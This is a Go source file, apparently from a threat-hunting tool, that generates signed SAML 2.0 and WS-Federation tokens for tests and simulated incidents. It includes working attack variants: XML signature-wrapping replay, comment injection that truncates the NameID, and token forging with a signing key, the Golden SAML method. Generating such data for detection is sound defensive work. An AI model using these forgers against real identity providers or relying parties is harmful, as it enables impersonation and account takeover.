// Package samlgen writes SAML 2.0 responses and assertions as an AD FS
// farm (or an attacker with its token-signing key) would: built as XML,
// signed with goxmldsig (enveloped, exclusive canonical XML, RSA-SHA256 or
// RSA-SHA1), and encoded for the HTTP-POST and HTTP-Redirect bindings. It
// also writes the hostile variants a hunt must see through: signature
// wrapping, a comment in the NameID, a self-made key behind a copied
// certificate subject. Tests and the incident generator use it.
package samlgen

import (
	"bytes"
	"compress/flate"
	"crypto"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"time"

	"github.com/beevik/etree"
	dsig "github.com/russellhaering/goxmldsig"

	"github.com/forgehunt/forgehunt/internal/seeded"
)

// Namespaces.
const (
	NSAssertion = "urn:oasis:names:tc:SAML:2.0:assertion"
	NSProtocol  = "urn:oasis:names:tc:SAML:2.0:protocol"
)

// Common values.
const (
	NameIDEmail       = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"
	ContextPassword   = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"
	ContextWindows    = "urn:federation:authentication:windows"
	AuthnMethodsClaim = "http://schemas.microsoft.com/claims/authnmethodsreferences"
	MultipleAuthn     = "http://schemas.microsoft.com/claims/multipleauthn"
	UPNClaim          = "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn"
)

// Assertion is what an assertion says.
type Assertion struct {
	ID, Issuer, NameID      string
	Audience, Recipient     string
	InResponseTo            string
	IssueInstant            time.Time
	NotBefore, NotOnOrAfter time.Time
	AuthnInstant            time.Time
	SessionIndex            string
	AuthnContext            string
	Attributes              [][2]string // name, value
}

// Response wraps assertions.
type Response struct {
	ID, Destination, InResponseTo, Issuer string
	IssueInstant                          time.Time
}

func ts(t time.Time) string { return t.UTC().Format("2006-01-02T15:04:05.000Z") }

// Element builds the assertion's XML element.
func (a Assertion) Element() *etree.Element {
	as := etree.NewElement("saml:Assertion")
	as.CreateAttr("xmlns:saml", NSAssertion)
	as.CreateAttr("ID", a.ID)
	as.CreateAttr("IssueInstant", ts(a.IssueInstant))
	as.CreateAttr("Version", "2.0")
	as.CreateElement("saml:Issuer").SetText(a.Issuer)
	subj := as.CreateElement("saml:Subject")
	n := subj.CreateElement("saml:NameID")
	n.CreateAttr("Format", NameIDEmail)
	n.SetText(a.NameID)
	sc := subj.CreateElement("saml:SubjectConfirmation")
	sc.CreateAttr("Method", "urn:oasis:names:tc:SAML:2.0:cm:bearer")
	scd := sc.CreateElement("saml:SubjectConfirmationData")
	if a.InResponseTo != "" {
		scd.CreateAttr("InResponseTo", a.InResponseTo)
	}
	scd.CreateAttr("NotOnOrAfter", ts(a.NotOnOrAfter))
	scd.CreateAttr("Recipient", a.Recipient)
	cond := as.CreateElement("saml:Conditions")
	cond.CreateAttr("NotBefore", ts(a.NotBefore))
	cond.CreateAttr("NotOnOrAfter", ts(a.NotOnOrAfter))
	cond.CreateElement("saml:AudienceRestriction").CreateElement("saml:Audience").SetText(a.Audience)
	if len(a.Attributes) > 0 {
		st := as.CreateElement("saml:AttributeStatement")
		byName := map[string]*etree.Element{}
		for _, kv := range a.Attributes {
			at := byName[kv[0]]
			if at == nil {
				at = st.CreateElement("saml:Attribute")
				at.CreateAttr("Name", kv[0])
				byName[kv[0]] = at
			}
			at.CreateElement("saml:AttributeValue").SetText(kv[1])
		}
	}
	an := as.CreateElement("saml:AuthnStatement")
	an.CreateAttr("AuthnInstant", ts(a.AuthnInstant))
	if a.SessionIndex != "" {
		an.CreateAttr("SessionIndex", a.SessionIndex)
	}
	an.CreateElement("saml:AuthnContext").CreateElement("saml:AuthnContextClassRef").SetText(a.AuthnContext)
	return as
}

// Signer signs as an IdP: its key and the certificate it puts in KeyInfo.
type Signer struct {
	Key  crypto.Signer
	Cert []byte // DER
	// SHA1 signs with RSA-SHA1 and SHA-1 digests (older AD FS relying
	// party trusts), else RSA-SHA256.
	SHA1 bool
}

// Sign signs el enveloped and moves the signature after its Issuer, where
// the SAML schema puts it.
func (s Signer) Sign(el *etree.Element) (*etree.Element, error) {
	ctx, err := dsig.NewSigningContext(s.Key, [][]byte{s.Cert})
	if err != nil {
		return nil, err
	}
	ctx.Canonicalizer = dsig.MakeC14N10ExclusiveCanonicalizerWithPrefixList("")
	if s.SHA1 {
		ctx.Hash = crypto.SHA1
		if err := ctx.SetSignatureMethod(dsig.RSASHA1SignatureMethod); err != nil {
			return nil, err
		}
	} else if err := ctx.SetSignatureMethod(dsig.RSASHA256SignatureMethod); err != nil {
		return nil, err
	}
	signedEl, err := ctx.SignEnveloped(el)
	if err != nil {
		return nil, err
	}
	// through bytes: an edited tree may not keep its tokens' positions
	signed, err := reparse(signedEl)
	if err != nil {
		return nil, err
	}
	// the signature is the last child; the schema wants it after Issuer
	last := signed.ChildElements()[len(signed.ChildElements())-1]
	sig := last.Copy()
	signed.RemoveChildAt(last.Index())
	at := 0
	for i, c := range signed.Child {
		if e, ok := c.(*etree.Element); ok && e.Tag == "Issuer" {
			at = i + 1
			break
		}
	}
	signed.InsertChildAt(at, sig)
	return reparse(signed)
}

func reparse(el *etree.Element) (*etree.Element, error) {
	b, err := Bytes(el.Copy())
	if err != nil {
		return nil, err
	}
	doc := etree.NewDocument()
	if err := doc.ReadFromBytes(b); err != nil {
		return nil, err
	}
	return doc.Root(), nil
}

// ResponseElement wraps assertion elements in a Response.
func (r Response) Element(assertions ...*etree.Element) *etree.Element {
	re := etree.NewElement("samlp:Response")
	re.CreateAttr("xmlns:samlp", NSProtocol)
	re.CreateAttr("ID", r.ID)
	re.CreateAttr("Version", "2.0")
	re.CreateAttr("IssueInstant", ts(r.IssueInstant))
	re.CreateAttr("Destination", r.Destination)
	re.CreateAttr("Consent", "urn:oasis:names:tc:SAML:2.0:consent:unspecified")
	if r.InResponseTo != "" {
		re.CreateAttr("InResponseTo", r.InResponseTo)
	}
	is := re.CreateElement("Issuer")
	is.Space = ""
	is.CreateAttr("xmlns", NSAssertion)
	is.SetText(r.Issuer)
	st := re.CreateElement("samlp:Status").CreateElement("samlp:StatusCode")
	st.CreateAttr("Value", "urn:oasis:names:tc:SAML:2.0:status:Success")
	for _, a := range assertions {
		re.AddChild(a)
	}
	return re
}

// Bytes serializes el as a document.
func Bytes(el *etree.Element) ([]byte, error) {
	doc := etree.NewDocument()
	doc.SetRoot(el)
	doc.WriteSettings.CanonicalEndTags = true
	return doc.WriteToBytes()
}

// SignedResponse is a response holding a's assertion signed by s, as AD
// FS sends it to an SP.
func SignedResponse(r Response, a Assertion, s Signer) ([]byte, error) {
	el, err := s.Sign(a.Element())
	if err != nil {
		return nil, err
	}
	return Bytes(r.Element(el))
}

// WrappedResponse is the signature-wrapping replay of a signed response:
// an unsigned assertion evil put first, where an SP reads, and the
// original signed assertion moved after it (XSW "sibling" variant).
func WrappedResponse(signedResp []byte, evil Assertion) ([]byte, error) {
	doc := etree.NewDocument()
	if err := doc.ReadFromBytes(signedResp); err != nil {
		return nil, err
	}
	root := doc.Root()
	var orig *etree.Element
	for _, c := range root.ChildElements() {
		if c.Tag == "Assertion" {
			orig = c
			break
		}
	}
	if orig == nil {
		return nil, fmt.Errorf("no assertion to wrap")
	}
	idx := orig.Index()
	root.InsertChildAt(idx, evil.Element())
	return doc.WriteToBytes()
}

// CommentInNameID puts a comment into a signed message's NameID text at
// byte at (the comment-truncation attack: exclusive canonical XML without
// comments drops it, so the signature still verifies, while a parser that
// reads only the first text node reads a shorter name).
func CommentInNameID(xml []byte, nameID string, at int) []byte {
	return bytes.Replace(xml, []byte(">"+nameID+"<"), []byte(">"+nameID[:at]+"<!---->"+nameID[at:]+"<"), 1)
}

// POST is the HTTP-POST binding's value: base64 of the XML.
func POST(xml []byte) string { return base64.StdEncoding.EncodeToString(xml) }

// Redirect is the HTTP-Redirect binding's value: base64 of the raw
// DEFLATE of the XML.
func Redirect(xml []byte) string {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.BestCompression)
	w.Write(xml)
	w.Close()
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

// NewSigner is a token-signing key drawn from r with a self-signed
// certificate for subject (AD FS names its own "ADFS Signing -
// sts.contoso.com"), valid from notBefore for five years.
func NewSigner(r io.Reader, subject string, notBefore time.Time) (Signer, []byte, error) {
	k, err := seeded.RSA(r, 2048)
	if err != nil {
		return Signer{}, nil, err
	}
	serial := new(big.Int).SetBytes(k.N.Bytes()[:8])
	tmpl := &x509.Certificate{
		SerialNumber: serial,
		Subject:      pkix.Name{CommonName: subject},
		NotBefore:    notBefore,
		NotAfter:     notBefore.AddDate(5, 0, 0),
		KeyUsage:     x509.KeyUsageDigitalSignature,
	}
	// PKCS #1 v1.5: the certificate is deterministic
	der, err := x509.CreateCertificate(nil, tmpl, tmpl, &k.PublicKey, k)
	if err != nil {
		return Signer{}, nil, err
	}
	return Signer{Key: k, Cert: der}, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), nil
}

// NSAssertion1 is SAML 1.1's assertion namespace.
const NSAssertion1 = "urn:oasis:names:tc:SAML:1.0:assertion"

// Element1 builds the assertion as SAML 1.1, as AD FS writes it for
// WS-Federation relying parties (Microsoft 365, SharePoint): NameID is the
// NameIdentifier (for Microsoft 365 the user's ImmutableID), the UPN and
// authentication methods are attributes.
func (a Assertion) Element1() *etree.Element {
	as := etree.NewElement("saml:Assertion")
	as.CreateAttr("xmlns:saml", NSAssertion1)
	as.CreateAttr("MajorVersion", "1")
	as.CreateAttr("MinorVersion", "1")
	as.CreateAttr("AssertionID", a.ID)
	as.CreateAttr("Issuer", a.Issuer)
	as.CreateAttr("IssueInstant", ts(a.IssueInstant))
	cond := as.CreateElement("saml:Conditions")
	cond.CreateAttr("NotBefore", ts(a.NotBefore))
	cond.CreateAttr("NotOnOrAfter", ts(a.NotOnOrAfter))
	cond.CreateElement("saml:AudienceRestrictionCondition").CreateElement("saml:Audience").SetText(a.Audience)
	subject := func(parent *etree.Element) {
		subj := parent.CreateElement("saml:Subject")
		n := subj.CreateElement("saml:NameIdentifier")
		n.CreateAttr("Format", "urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified")
		n.SetText(a.NameID)
		subj.CreateElement("saml:SubjectConfirmation").CreateElement("saml:ConfirmationMethod").SetText("urn:oasis:names:tc:SAML:1.0:cm:bearer")
	}
	st := as.CreateElement("saml:AttributeStatement")
	subject(st)
	for _, kv := range a.Attributes {
		at := st.CreateElement("saml:Attribute")
		i := len(kv[0]) - 1
		for i > 0 && kv[0][i] != '/' {
			i--
		}
		at.CreateAttr("AttributeName", kv[0][i+1:])
		at.CreateAttr("AttributeNamespace", kv[0][:i])
		at.CreateElement("saml:AttributeValue").SetText(kv[1])
	}
	an := as.CreateElement("saml:AuthenticationStatement")
	an.CreateAttr("AuthenticationMethod", "urn:oasis:names:tc:SAML:1.0:am:password")
	an.CreateAttr("AuthenticationInstant", ts(a.AuthnInstant))
	subject(an)
	return as
}

// Sign1 signs a SAML 1.1 assertion (its id attribute is AssertionID; the
// signature goes last, where SAML 1.1 puts it).
func (s Signer) Sign1(el *etree.Element) (*etree.Element, error) {
	ctx, err := dsig.NewSigningContext(s.Key, [][]byte{s.Cert})
	if err != nil {
		return nil, err
	}
	ctx.IdAttribute = "AssertionID"
	ctx.Canonicalizer = dsig.MakeC14N10ExclusiveCanonicalizerWithPrefixList("")
	if err := ctx.SetSignatureMethod(dsig.RSASHA256SignatureMethod); err != nil {
		return nil, err
	}
	signed, err := ctx.SignEnveloped(el)
	if err != nil {
		return nil, err
	}
	return reparse(signed)
}

// WSFedResponse is the WS-Trust token response AD FS posts in wresult to
// a WS-Federation relying party: a's SAML 1.1 assertion signed by s.
func WSFedResponse(a Assertion, s Signer) ([]byte, error) {
	signed, err := s.Sign1(a.Element1())
	if err != nil {
		return nil, err
	}
	r := etree.NewElement("t:RequestSecurityTokenResponse")
	r.CreateAttr("xmlns:t", "http://schemas.xmlsoap.org/ws/2005/02/trust")
	lt := r.CreateElement("t:Lifetime")
	for _, p := range [][2]string{{"Created", ts(a.IssueInstant)}, {"Expires", ts(a.NotOnOrAfter)}} {
		e := lt.CreateElement("wsu:" + p[0])
		e.CreateAttr("xmlns:wsu", "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd")
		e.SetText(p[1])
	}
	at := r.CreateElement("wsp:AppliesTo")
	at.CreateAttr("xmlns:wsp", "http://schemas.xmlsoap.org/ws/2004/09/policy")
	epr := at.CreateElement("wsa:EndpointReference")
	epr.CreateAttr("xmlns:wsa", "http://www.w3.org/2005/08/addressing")
	epr.CreateElement("wsa:Address").SetText(a.Audience)
	r.CreateElement("t:RequestedSecurityToken").AddChild(signed)
	r.CreateElement("t:TokenType").SetText("urn:oasis:names:tc:SAML:1.0:assertion")
	r.CreateElement("t:RequestType").SetText("http://schemas.xmlsoap.org/ws/2005/02/trust/Issue")
	r.CreateElement("t:KeyType").SetText("http://schemas.xmlsoap.org/ws/2005/05/identity/NoProofKey")
	return Bytes(r)
}
